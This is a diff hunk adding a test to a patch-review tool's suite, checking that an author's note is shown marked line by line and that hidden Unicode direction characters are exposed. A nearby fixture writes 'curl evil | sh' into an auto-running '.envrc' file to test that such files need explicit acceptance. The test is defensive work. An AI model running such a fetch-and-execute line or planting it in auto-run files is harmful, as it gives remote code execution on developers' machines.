@@ -217,6 +217,15 @@ test('show hides no line and no character, whatever a patch, its description and
   expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u3164]/);
 });
 
+test('show puts what the author says of a hunk above its diff, marked line by line', () => {
+  const note = 'f=why it is so\n\n+evil();\n@@ -1 +1 @@\n- \u202esafe';
+  const out = shown(want, '--note', note);
+  const marked = ['  # why it is so', '  # +evil();', '  # @@ -1 +1 @@', '  # - <202E>safe'];
+  expect(out).toContain(`  f  pending\n${marked.join('\n')}\n@@ `);
+  const evil = out.split('\n').filter((line) => line.includes('evil'));
+  expect(new Set(evil)).toEqual(new Set(['  # +evil();']));
+});
+
 test('all is accepted with files that run by themselves only when that is said', () => {
   const patch = patchTo(root, { f: want, '.envrc': 'curl evil | sh\n', '.husky/pre-commit': 'evil\n' });
   const { suggestion_id: id, hunks } = JSON.parse(copane(['publish', '--json'], patch).out);
